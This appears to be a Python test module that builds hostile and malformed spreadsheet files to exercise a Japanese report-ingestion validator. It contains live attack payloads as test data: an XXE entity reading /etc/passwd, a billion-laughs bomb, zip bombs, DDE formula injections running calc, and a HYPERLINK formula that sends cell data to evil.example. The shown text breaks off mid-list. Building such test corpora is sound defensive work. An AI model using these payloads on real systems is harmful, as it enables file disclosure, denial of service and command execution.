"""A corpus of hostile and messy submissions, built by code from a small plan and its templates.

Every case writes its file(s) into an empty folder and says what checking that folder must find:
rule codes (with the cell where one applies) for broken input, or the parsed 実績値 for input that
is messy but valid. Nothing binary is committed: each file is a damaged copy of a real template
(openpyxl or zipfile), or bytes made here. Used by tests/test_hostile.py.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import os
import re
import shutil
import struct
import subprocess
import tempfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path, PurePosixPath

import pandas as pd
from openpyxl import load_workbook
from openpyxl.styles import Font
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.filters import FilterColumn, Filters

from pipeline import labels as L
from pipeline.ingest import Limits
from pipeline.model import FILE, ROW, Plan, Report
from pipeline.samples import fill_template, set_saved_time
from pipeline.templates import template_path, write_templates
from pipeline.text import key
from tests.builders import master_sheets, write_plan

YEAR = 2025
DEPARTMENT = "A課"
OTHER = "B課"
MAIN = "進捗状況_A課_2025年度.xlsx"
MB = 1024 * 1024

# The A課 template, rows 7-10 (header in row 6): columns A 整理番号 … G 目標値, H 実績値, I 達成率,
# J 自己評価, K 取組内容・実績, L 課題, M 今後の方向性.
ROWS = {
    ("1-(1)-①", "件数"): 7,  # 件, 増加, target 100
    ("1-(1)-①", "満足度"): 8,  # %, 増加, target 70
    ("1-(1)-②", "指針の策定"): 9,  # 定性, target 策定
    ("1-(1)-③", ""): 10,  # a project without targets
}
EDITABLE = {L.ACTUAL: "H", L.GRADE: "J", L.WORK_DONE: "K", L.ISSUES: "L", L.OUTLOOK: "M"}

VALID: dict[tuple[str, str], dict[str, object]] = {
    ("1-(1)-①", "件数"): {
        L.ACTUAL: 120,
        L.GRADE: "A",
        L.WORK_DONE: "相談会を開催。",
        L.OUTLOOK: "継続",
    },
    ("1-(1)-①", "満足度"): {
        L.ACTUAL: 65,
        L.GRADE: "B",
        L.WORK_DONE: "調査を実施。",
        L.OUTLOOK: "継続",
    },
    ("1-(1)-②", "指針の策定"): {
        L.ACTUAL: "策定",
        L.GRADE: "A",
        L.WORK_DONE: "指針を策定。",
        L.OUTLOOK: "完了",
    },
    ("1-(1)-③", ""): {L.WORK_DONE: "周知を行った。", L.OUTLOOK: "継続"},
}
VALID_ACTUALS: dict[int, object] = {7: Decimal(120), 8: Decimal(65), 9: "策定", 10: None}


def plan_sheets() -> dict[str, list[list[str]]]:
    return master_sheets(
        tree=[["1", "分野一", "", "分野"], ["1-(1)", "施策一", "1", "施策"]],
        projects=[
            ["1-(1)-①", "支援事業", "1-(1)", DEPARTMENT, "", "", ""],
            ["1-(1)-②", "指針事業", "1-(1)", DEPARTMENT, "", "", ""],
            ["1-(1)-③", "周知事業", "1-(1)", DEPARTMENT, "", "", ""],
            ["1-(1)-④", "対話事業", "1-(1)", OTHER, "", "", ""],
        ],
        targets=[
            ["1-(1)-①", "件数", "件", "増加", "", "90", "100"],
            ["1-(1)-①", "満足度", "%", "増加", "", "60", "70"],
            ["1-(1)-②", "指針の策定", "", "定性", "", "検討", "策定"],
            ["1-(1)-④", "回数", "回", "増加", "", "8", "10"],
        ],
        years=[YEAR - 1, YEAR],
    )


@dataclass(frozen=True)
class Base:
    """The plan, its templates, and one valid filled submission per department."""

    root: Path
    master: Path
    plan: Plan
    template: Path  # A課, YEAR
    last_year: Path  # A課, YEAR - 1, filled
    filled: Path  # A課, YEAR, valid
    other: Path  # B課, YEAR, valid


def make_base(root: Path) -> Base:
    master, plan = write_plan(plan_sheets(), root)
    write_templates(plan, YEAR, root / "t")
    write_templates(plan, YEAR - 1, root / "t_last")
    values = {(key(n), key(t)): v for (n, t), v in VALID.items()}
    filled = fill_template(
        template_path(root / "t", DEPARTMENT, YEAR), root / "filled" / MAIN, values, "検証 太郎"
    )
    last = fill_template(
        template_path(root / "t_last", DEPARTMENT, YEAR - 1),
        root / "filled" / "last_year.xlsx",
        values,
        "検証 太郎",
    )
    other = fill_template(
        template_path(root / "t", OTHER, YEAR),
        root / "filled" / "B.xlsx",
        {(key("1-(1)-④"), key("回数")): VALID[("1-(1)-①", "件数")]},
        "対話 花子",
    )
    return Base(
        root, master, plan, template_path(root / "t", DEPARTMENT, YEAR), last, filled, other
    )


# --- cell values with a meaning beyond their Python type -----------------------------------------


class Formula(str):
    """Entered as a formula (openpyxl writes <f> with no cached value)."""


class ErrorValue(str):
    """Entered as an error cell (t="e"), e.g. '#DIV/0!'."""


def put(cell: object, value: object) -> None:
    """Type `value` into an openpyxl cell the way Excel stores it; plain str stays text."""
    cell.value = value  # type: ignore[attr-defined]
    if isinstance(value, Formula):
        cell.data_type = "f"  # type: ignore[attr-defined]
    elif isinstance(value, ErrorValue):
        cell.data_type = "e"  # type: ignore[attr-defined]
    elif isinstance(value, str):
        cell.data_type = "s"  # type: ignore[attr-defined]


# --- ways to damage a copy ------------------------------------------------------------------------

Build = Callable[[Base, Path], None]
Mutate = Callable[[Workbook], None]


def edited(
    cells: Mapping[str, object] | None = None,
    *,
    mutate: Mutate | None = None,
    formats: Mapping[str, str] | None = None,
    source: str = "filled",
    name: str = MAIN,
    saved_at: dt.datetime | None = None,
    after: Callable[[Path], None] | None = None,
) -> Build:
    """A copy of a filled workbook with `cells` of 進捗状況 retyped and `mutate` applied."""

    def build(base: Base, folder: Path) -> None:
        book = load_workbook(getattr(base, source))
        sheet = book[L.PROGRESS_SHEET]
        for ref, value in (cells or {}).items():
            put(sheet[ref], value)
        for ref, number_format in (formats or {}).items():
            sheet[ref].number_format = number_format
        if mutate is not None:
            mutate(book)
        dest = folder / name
        dest.parent.mkdir(parents=True, exist_ok=True)
        book.save(dest)
        if saved_at is not None:
            set_saved_time(dest, saved_at)
        if after is not None:
            after(dest)

    return build


def raw(make: Callable[[Base], bytes], name: str = MAIN) -> Build:
    def build(base: Base, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(make(base))

    return build


def both(*builds: Build) -> Build:
    def build(base: Base, folder: Path) -> None:
        for step in builds:
            step(base, folder)

    return build


def rezip(
    source: Path,
    change: Callable[[str, bytes], bytes] = lambda name, data: data,
    extra: tuple[tuple[str, bytes], ...] = (),
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """The zip at `source` with each part passed through `change`, plus `extra` parts."""
    target = io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w", compression) as out:
        for info in original.infolist():
            out.writestr(info.filename, change(info.filename, original.read(info)), compression)
        for name, data in extra:
            out.writestr(name, data, compression)
    return target.getvalue()


def with_xml_cell(ref: str, xml: bytes) -> Build:
    """The filled workbook with the XML element of cell `ref` of 進捗状況 replaced by `xml`:
    for what openpyxl cannot write (a formula with its cached value, text over 32,767 chars)."""
    element = re.compile(rb'<c r="' + ref.encode() + rb'"(?:\s[^>]*)?(?:/>|>.*?</c>)', re.DOTALL)

    def build(base: Base, folder: Path) -> None:
        def change(name: str, data: bytes) -> bytes:
            if name != "xl/worksheets/sheet1.xml":
                return data
            data, count = element.subn(lambda _: xml, data, count=1)
            assert count == 1, f"cell {ref} not found"
            return data

        folder.mkdir(parents=True, exist_ok=True)
        (folder / MAIN).write_bytes(rezip(base.filled, change))

    return build


def saved_as(text: bytes) -> Callable[[Path], None]:
    """Set docProps/core.xml dcterms:modified to `text` (any W3CDTF form, e.g. with an offset)."""

    def stamp(path: Path) -> None:
        pattern = rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)"

        def change(name: str, data: bytes) -> bytes:
            if name != "docProps/core.xml":
                return data
            return re.sub(pattern, lambda m: m.group(1) + text + m.group(2), data)

        path.write_bytes(rezip(path, change))

    return stamp


def duplicate_sheet_entry(base: Base, folder: Path) -> None:
    """Two zip entries named xl/worksheets/sheet1.xml: the clean one first, one with an error
    cell second. Whatever entry a reader takes, the scanner must take the same."""
    scratch = folder.parent / f".{folder.name}.scratch"
    edited({"H7": ErrorValue("#DIV/0!")})(base, scratch)
    with zipfile.ZipFile(scratch / MAIN) as damaged:
        second = damaged.read("xl/worksheets/sheet1.xml")
    shutil.rmtree(scratch)
    target = io.BytesIO()
    with zipfile.ZipFile(base.filled) as source, zipfile.ZipFile(target, "w") as out:
        for info in source.infolist():
            out.writestr(info.filename, source.read(info), zipfile.ZIP_DEFLATED)
            if info.filename == "xl/worksheets/sheet1.xml":
                with warnings.catch_warnings():
                    warnings.simplefilter("ignore")  # 'Duplicate name': the point of the case
                    out.writestr(info.filename, second, zipfile.ZIP_DEFLATED)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / MAIN).write_bytes(target.getvalue())


NON_UTF8_NAME = b"\x90i\x92\xbb_A\x89\xdb.xlsx"  # 進捗_A課.xlsx in Shift_JIS, as unzipped on Linux


def non_utf8_name(base: Base, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    Path(os.fsdecode(os.fsencode(folder) + b"/" + NON_UTF8_NAME)).write_bytes(
        base.filled.read_bytes()
    )


def with_dtd(part: str, doctype: bytes, reference: bytes) -> Callable[[Base], bytes]:
    """The filled workbook with a DOCTYPE in `part` and `reference` used in its first text."""

    def make(base: Base) -> bytes:
        def change(name: str, data: bytes) -> bytes:
            if name != part:
                return data
            data = re.sub(rb"<t>|<t ([^>]*)>", lambda m: m.group(0) + reference, data, count=1)
            if data.startswith(b"<?xml"):
                end = data.index(b"?>") + 2
                return data[:end] + doctype + data[end:]
            return doctype + data

        return rezip(base.filled, change)

    return make


def declared_size(base: Base) -> bytes:
    """A zip whose central directory claims a 3.75 GB sheet part (nothing inflates that much)."""
    data = bytearray(base.filled.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46 : at + 46 + length]) == name:
            struct.pack_into("<I", data, at + 24, 0xF000_0000)
        at += 4
    return bytes(data)


def encrypted_zip_flag(base: Base) -> bytes:
    """A workbook zip whose entries say they are encrypted (ZipCrypto flag bit 0)."""
    data = bytearray(base.filled.read_bytes())
    for signature, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = 0
        while (at := data.find(signature, at)) >= 0:
            flags = struct.unpack_from("<H", data, at + offset)[0]
            struct.pack_into("<H", data, at + offset, flags | 0x1)
            at += 4
    return bytes(data)


def corrupted(base: Base, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The sheet part's data damaged: an invalid deflate block (BTYPE=11), or, stored, flipped
    bytes that only the CRC check notices."""
    data = bytearray(rezip(base.filled, compression=compression))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    if compression == zipfile.ZIP_DEFLATED:
        data[start] = 0x07  # final block of the reserved type: zlib says 'invalid block type'
    else:
        for i in range(start + 100, start + 140):
            data[i] ^= 0x20
    return bytes(data)


def ole_encrypted() -> bytes:
    """A structurally valid compound file holding EncryptionInfo + EncryptedPackage: what Excel
    writes for a password-protected .xlsx."""
    sector, free, end, fat_sect, none = 512, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    descriptor = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
        b'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512"/>'
        b"</encryption>"
    )
    info = (struct.pack("<HHI", 4, 4, 0x40) + descriptor).ljust(4096, b"\0")
    package = struct.pack("<Q", 8000) + _noise(4088)
    fat = [fat_sect, end, *range(3, 10), end, *range(11, 18), end]
    fat += [free] * (128 - len(fat))
    directory = b"".join(
        [
            _dir_entry("Root Entry", 5, 1, none, none, 1, end, 0),
            _dir_entry("EncryptionInfo", 2, 1, none, 2, none, 2, len(info)),
            _dir_entry("EncryptedPackage", 2, 0, none, none, none, 10, len(package)),
            _dir_entry("", 0, 0, none, none, none, 0, 0),
        ]
    )
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<109I", 0, *([free] * 108))
    )
    body = struct.pack("<128I", *fat) + directory + info + package
    assert len(header) == sector and len(body) % sector == 0
    return header + body


def _dir_entry(
    name: str, kind: int, color: int, left: int, right: int, child: int, start: int, size: int
) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if name else b""
    return (
        encoded.ljust(64, b"\0")
        + struct.pack("<HBBIII", len(encoded), kind, color, left, right, child)
        + bytes(16 + 4 + 16)
        + struct.pack("<IQ", start, size)
    )


def _noise(size: int) -> bytes:
    out = b""
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(counter.to_bytes(4, "little")).digest()
        counter += 1
    return out[:size]


def png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    pixels = zlib.compress(b"\x00\xff\x00\x00" * 1)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def docx() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        )
        archive.writestr(
            "word/document.xml",
            '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>実績報告</w:t></w:r></w:p>'
            "</w:body></w:document>",
        )
    return target.getvalue()


def xlsm(base: Base) -> bytes:
    """The filled workbook as a macro-enabled one: vbaProject.bin part, content type, relation."""

    def change(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = data.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
            return data.replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                b"</Types>",
            )
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
            )
        return data

    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name = "Module1"\r\nShell "calc"'
    return rezip(base.filled, change, (("xl/vbaProject.bin", vba),))


def many_entries(base: Base) -> bytes:
    extra = tuple((f"xl/media/image{i}.png", b"x") for i in range(1001))
    return rezip(base.filled, extra=extra)


def ratio_bomb(base: Base) -> bytes:
    return rezip(base.filled, extra=(("xl/media/image1.bin", bytes(2 * MB)),))


def truncated(base: Base) -> bytes:
    data = base.filled.read_bytes()
    return data[: len(data) * 3 // 5]


BILLION_LAUGHS = (
    b'<!DOCTYPE worksheet [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)
XXE = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def legacy_xls(base: Base, folder: Path) -> None:
    """The filled workbook saved by LibreOffice as Excel 97-2003 (.xls)."""
    folder.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as scratch:
        profile = Path(scratch) / "profile"
        subprocess.run(
            [
                "soffice",
                f"-env:UserInstallation={profile.as_uri()}",
                "--headless",
                "--calc",
                "--convert-to",
                "xls",
                "--outdir",
                scratch,
                str(base.filled),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        shutil.copyfile(Path(scratch) / base.filled.with_suffix(".xls").name, folder / XLS)


XLS = "進捗状況_A課_2025年度.xls"


# --- openpyxl mutations ---------------------------------------------------------------------------


def drop_meta(book: Workbook) -> None:
    book.remove(book[L.META_SHEET])


def meta_cell(ref: str, value: object) -> Mutate:
    def mutate(book: Workbook) -> None:
        put(book[L.META_SHEET][ref], value)

    return mutate


def rename_sheet(book: Workbook) -> None:
    book[L.PROGRESS_SHEET].title = "進捗状況（提出用）"


def rename_sheet_to(title: str) -> Mutate:
    def mutate(book: Workbook) -> None:
        book[L.PROGRESS_SHEET].title = title

    return mutate


def empty_meta(book: Workbook) -> None:
    for row in book[L.META_SHEET].iter_rows():
        for cell in row:
            cell.value = None


def swap_rows(first: int, second: int) -> Mutate:
    """Two data rows swapped (a department sorting its sheet)."""

    def mutate(book: Workbook) -> None:
        sheet = book[L.PROGRESS_SHEET]
        for column in "ABCDEFGHJKLM":
            a, b = sheet[f"{column}{first}"], sheet[f"{column}{second}"]
            a_value, b_value = a.value, b.value
            put(a, b_value)
            put(b, a_value)

    return mutate


def insert_column(book: Workbook) -> None:
    sheet = book[L.PROGRESS_SHEET]
    sheet.insert_cols(8)  # before 実績値 (H): 実績値 moves to I
    put(sheet["H6"], "備考")
    put(sheet["H7"], "担当者メモ")


def delete_column(book: Workbook) -> None:
    book[L.PROGRESS_SHEET].delete_cols(12)  # 課題 (L)


def swap_columns(book: Workbook) -> None:
    """取組内容・実績 (K) and 今後の方向性 (M) swapped, header and all."""
    sheet = book[L.PROGRESS_SHEET]
    for row in range(6, 11):
        k, m = sheet[f"K{row}"], sheet[f"M{row}"]
        k_value, m_value = k.value, m.value
        put(k, m_value)
        put(m, k_value)


def add_row(values: str, at: int = 11) -> Mutate:
    """A row typed below the table: `values` are the cells A, B, C… separated by '|'."""

    def mutate(book: Workbook) -> None:
        sheet = book[L.PROGRESS_SHEET]
        for column, value in zip("ABCDEFGHIJKLM", values.split("|"), strict=False):
            if value:
                put(sheet[f"{column}{at}"], int(value) if value.isdigit() else value)

    return mutate


def copy_row(source: int, at: int) -> Mutate:
    def mutate(book: Workbook) -> None:
        sheet = book[L.PROGRESS_SHEET]
        for column in "ABCDEFGHJKLM":
            put(sheet[f"{column}{at}"], sheet[f"{column}{source}"].value)

    return mutate


def delete_row(row: int) -> Mutate:
    def mutate(book: Workbook) -> None:
        book[L.PROGRESS_SHEET].delete_rows(row)

    return mutate


def merge(ref: str) -> Mutate:
    def mutate(book: Workbook) -> None:
        book[L.PROGRESS_SHEET].merge_cells(ref)

    return mutate


def hide_row(row: int) -> Mutate:
    def mutate(book: Workbook) -> None:
        book[L.PROGRESS_SHEET].row_dimensions[row].hidden = True

    return mutate


def filter_on(book: Workbook) -> None:
    """An autofilter left on: 自己評価 = A, the B row hidden as Excel does."""
    sheet = book[L.PROGRESS_SHEET]
    sheet.auto_filter.ref = "A6:M10"
    sheet.auto_filter.filterColumn.append(FilterColumn(colId=9, filters=Filters(filter=["A"])))
    sheet.row_dimensions[8].hidden = True


def extra_sheets(book: Workbook) -> None:
    memo = book.create_sheet("メモ", 0)
    put(memo["A1"], "整理番号")
    put(memo["B1"], "実績値")
    put(memo["A2"], "1-(1)-①")
    put(memo["B2"], "未集計")
    copy = book.copy_worksheet(book[L.PROGRESS_SHEET])
    copy.title = "進捗状況 (2)"
    put(copy["H7"], "999")
    book.create_sheet("Sheet1")


def insert_rows_above(book: Workbook) -> None:
    book[L.PROGRESS_SHEET].insert_rows(1, 2)


def cell_at(ref: str) -> Mutate:
    def mutate(book: Workbook) -> None:
        put(book[L.PROGRESS_SHEET][ref], "x")

    return mutate


_TO_STRICT = (
    (
        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
        b"http://purl.oclc.org/ooxml/spreadsheetml/main",
    ),
    (
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
        b"http://purl.oclc.org/ooxml/officeDocument/relationships",
    ),
)


def strict_open_xml(path: Path) -> None:
    """Re-save as Strict Open XML does: the spreadsheet and relationship namespaces (and so the
    relationship types) of ISO/IEC 29500 Strict, `conformance="strict"` on the workbook."""

    def change(name: str, data: bytes) -> bytes:
        for transitional, strict in _TO_STRICT:
            data = data.replace(transitional, strict)
        if name == "xl/workbook.xml":
            data = data.replace(b"<workbook ", b'<workbook conformance="strict" ', 1)
        return data

    path.write_bytes(rezip(path, change))


def renamed_part(new: str) -> Callable[[Path], None]:
    """Move the 進捗状況 sheet's part (xl/worksheets/sheet1.xml) to `new`, the relationships and
    content types following it, as other writers name their parts (POI: `Sheet1.xml`)."""
    old = "xl/worksheets/sheet1.xml"

    def rename(path: Path) -> None:
        target = io.BytesIO()
        relative = new.removeprefix("xl/").encode()
        with zipfile.ZipFile(path) as source, zipfile.ZipFile(target, "w") as out:
            for info in source.infolist():
                data = source.read(info)
                if info.filename in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
                    data = data.replace(b"/xl/worksheets/sheet1.xml", b"/" + new.encode())
                    data = data.replace(b"worksheets/sheet1.xml", relative)
                name = new if info.filename == old else info.filename
                if info.filename == "xl/worksheets/_rels/sheet1.xml.rels":
                    name = str(
                        PurePosixPath(new).parent / "_rels" / f"{PurePosixPath(new).name}.rels"
                    )
                out.writestr(name, data, zipfile.ZIP_DEFLATED)
        path.write_bytes(target.getvalue())

    return rename


def wide_memo_sheet(book: Workbook) -> None:
    """A memo sheet the clerk added, with a note typed at the sheet's last cell."""
    memo = book.create_sheet("メモ")
    put(memo["A1"], "集計メモ")
    put(memo["XFD1048576"], "端")


def styled_empty_cell(ref: str) -> Mutate:
    """A cell of 進捗状況 with a format and no value (a stray click on the last row)."""

    def mutate(book: Workbook) -> None:
        book[L.PROGRESS_SHEET][ref].font = Font(bold=True)

    return mutate


# --- the corpus -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Expect:
    rule: str
    cell: str | None = None  # None: whatever cell (file findings have none)
    file: str | None = None  # path relative to the case folder; None: the case's main file


Check = Callable[[Report, str], None]  # (what the run found, the main file) -> own assertions


@dataclass(frozen=True)
class Case:
    name: str
    build: Build
    expect: tuple[Expect, ...] = ()
    values: Mapping[int, object] = field(default_factory=dict)  # sheet row -> counted 実績値
    clean: bool = False  # no エラー at all on the main file
    main: str = MAIN
    limits: Limits | None = None  # None: the defaults
    needs_soffice: bool = False
    isolate: bool = False  # may abort the interpreter: checked in a subprocess
    bug: str = ""  # non-empty: a known defect, the test is a strict xfail
    raises: type[BaseException] = AssertionError  # what the defect raises today
    check: Check | None = None


def _e(*codes: str) -> tuple[Expect, ...]:
    return tuple(Expect(code) for code in codes)


def _row(checked: Report, main: str, row: int) -> pd.DataFrame:
    counted = checked.counted
    return counted[(counted[FILE] == main) & (counted[ROW] == row)]


def _merged_text_is_kept_or_flagged(checked: Report, main: str) -> None:
    """Row 8 lies under a merged 取組内容 (K7:K8): read as the merged text, or flagged on K8."""
    row8 = _row(checked, main, 8)
    flagged = any(
        f.file == main and (f.cell, f.rule) == ("K8", "V07") for f in checked.finding_list
    )
    assert flagged or (len(row8) == 1 and row8.iloc[0][L.WORK_DONE] == "二行分の取組。")


def _long_text_survives(checked: Report, main: str) -> None:
    row7 = _row(checked, main, 7)
    assert len(row7) == 1 and str(row7.iloc[0][L.WORK_DONE]).startswith("長" * 1000)


def _row7_counted_or_flagged(checked: Report, main: str) -> None:
    flagged = any(
        f.file == main and f.cell == "H7" and f.severity == L.ERROR for f in checked.finding_list
    )
    assert flagged or len(_row(checked, main, 7)) == 1


NEW = dt.datetime(2025, 6, 1, 9, 0, 0)
LATEST = dt.datetime(2099, 1, 1, 0, 0, 0)
INJECTION = {
    "H7": "=1+2",
    "K7": '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
    "L8": "+cmd|' /C calc'!A0",
    "K8": "@SUM(1+1)*cmd|' /C calc'!A0",
    "K9": "-2+3+cmd|' /C calc'!A0",
    "K10": "\t=1+1",
    "B3": "=cmd|' /C calc'!A0",
    "E3": "@内線1234",
}

CASES: tuple[Case, ...] = (
    # --- not a workbook -------------------------------------------------------------------------
    Case("zero_byte", raw(lambda b: b""), _e("F02")),
    Case("corrupt_zip_deflate", raw(corrupted), _e("F01")),
    Case("corrupt_zip_crc", raw(lambda b: corrupted(b, zipfile.ZIP_STORED)), _e("F01")),
    Case("truncated_xlsx", raw(truncated), _e("F01")),
    Case(
        "csv_renamed",
        raw(lambda b: "整理番号,実績値\r\n1-(1)-①,120\r\n".encode("cp932")),
        _e("F04"),
    ),
    Case(
        "html_renamed",
        raw(
            lambda b: (
                '<html xmlns:x="urn:schemas-microsoft-com:office:excel">'
                '<head><meta charset="utf-8">'
                "</head><body><table><tr><td>整理番号</td><td>実績値</td></tr>"
                "<tr><td>1-(1)-①</td><td>120</td></tr></table></body></html>"
            ).encode()
        ),
        _e("F04"),
    ),
    Case(
        "pdf_renamed",
        raw(lambda b: b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
        _e("F04"),
    ),
    Case(
        "text_renamed",
        raw(lambda b: "進捗状況を提出します。よろしくお願いします。".encode()),
        _e("F04"),
    ),
    Case(
        "spreadsheetml2003_renamed",
        raw(
            lambda b: (
                b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
                b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
                b"<Worksheet/></Workbook>"
            )
        ),
        _e("F04"),
    ),
    Case("png_renamed", raw(lambda b: png()), _e("F04")),
    Case("docx_renamed", raw(lambda b: docx()), _e("F04")),
    Case("encrypted_ole", raw(lambda b: ole_encrypted()), _e("F03")),
    Case("encrypted_zip_flag", raw(encrypted_zip_flag), _e("F03")),
    # --- other formats that are read ------------------------------------------------------------
    Case(
        "legacy_xls",
        legacy_xls,
        _e("F17"),
        values=VALID_ACTUALS,
        main=XLS,
        needs_soffice=True,
    ),
    Case(
        "xlsm_with_macros",
        raw(xlsm, "進捗状況_A課_2025年度.xlsm"),
        _e("F12"),
        values=VALID_ACTUALS,
        main="進捗状況_A課_2025年度.xlsm",
    ),
    Case(
        "uppercase_extension",
        edited(name="進捗状況_A課_2025年度.XLSX"),
        values=VALID_ACTUALS,
        clean=True,
        main="進捗状況_A課_2025年度.XLSX",
    ),
    # --- over a limit ---------------------------------------------------------------------------
    Case("zip_bomb_declared_size", raw(declared_size), _e("F05")),
    Case("zip_bomb_ratio", raw(ratio_bomb), _e("F05")),
    Case(
        "zip_bomb_ratio_small_limit",
        raw(lambda b: rezip(b.filled, extra=(("xl/media/a.bin", bytes(MB + 1)),))),
        _e("F05"),
        limits=Limits(max_ratio=5),
    ),
    Case("too_many_zip_entries", raw(many_entries), _e("F05")),
    Case(
        "xml_entity_bomb",
        raw(with_dtd("xl/worksheets/sheet1.xml", BILLION_LAUGHS, b"&lol9;")),
        _e("F05"),
    ),
    Case("external_entity", raw(with_dtd("xl/worksheets/sheet1.xml", XXE, b"&xxe;")), _e("F05")),
    Case(
        "dtd_in_workbook_xml",
        raw(with_dtd("xl/workbook.xml", b'<!DOCTYPE workbook [<!ENTITY e "x">]>', b"")),
        _e("F05"),
    ),
    Case(
        "rows_over_limit",
        edited(mutate=cell_at("A200")),
        _e("F05"),
        limits=Limits(max_rows=100),
    ),
    Case(
        "dimension_claims_whole_sheet",
        raw(
            lambda b: rezip(
                b.filled,
                lambda n, d: (
                    re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', d)
                    if n == "xl/worksheets/sheet1.xml"
                    else d
                ),
            )
        ),
        values=VALID_ACTUALS,
        clean=True,
    ),
    Case("rows_over_default_limit", edited(mutate=cell_at("A100001")), _e("F05")),
    Case(
        "cell_at_last_excel_cell",
        edited(mutate=cell_at("XFD1048576")),
        _e("F05"),
    ),
    # --- every layout: Strict Open XML, parts named otherwise, sheets shinchoku never reads -----
    Case(
        "strict_open_xml",
        edited(after=strict_open_xml),
        values=VALID_ACTUALS,
        clean=True,
    ),
    Case(
        "strict_open_xml_error_and_uncached_formula",
        edited({"H7": ErrorValue("#DIV/0!"), "H8": Formula("=60+5")}, after=strict_open_xml),
        (Expect("V04", "H7"), Expect("V03", "H8")),
    ),
    Case(
        "strict_open_xml_percent_format",
        edited(
            {"H8": 0.4, "J8": "C", "L8": "回答率が低い。"},
            formats={"H8": "0%"},
            after=strict_open_xml,
        ),
        (Expect("V11", "H8"),),
        values={8: Decimal(40)},
    ),
    Case(
        "strict_open_xml_meta_read",
        edited(mutate=meta_cell("B2", "来年"), after=strict_open_xml),
        _e("F08"),
    ),
    Case(
        "strict_open_xml_cell_at_last_excel_cell",
        edited(mutate=cell_at("XFD1048576"), after=strict_open_xml),
        _e("F05"),
    ),
    Case(
        "part_named_as_poi_does",
        edited(
            {"H7": ErrorValue("#DIV/0!"), "H8": Formula("=60+5")},
            after=renamed_part("xl/worksheets/Sheet1.xml"),
        ),
        (Expect("V04", "H7"), Expect("V03", "H8")),
    ),
    Case(
        "part_named_anyhow",
        edited({"H7": ErrorValue("#N/A")}, after=renamed_part("xl/data/progress.xml")),
        (Expect("V04", "H7"),),
    ),
    Case(
        "part_named_anyhow_cell_at_last_excel_cell",
        edited(mutate=cell_at("XFD1048576"), after=renamed_part("xl/data/progress.xml")),
        _e("F05"),
    ),
    Case(
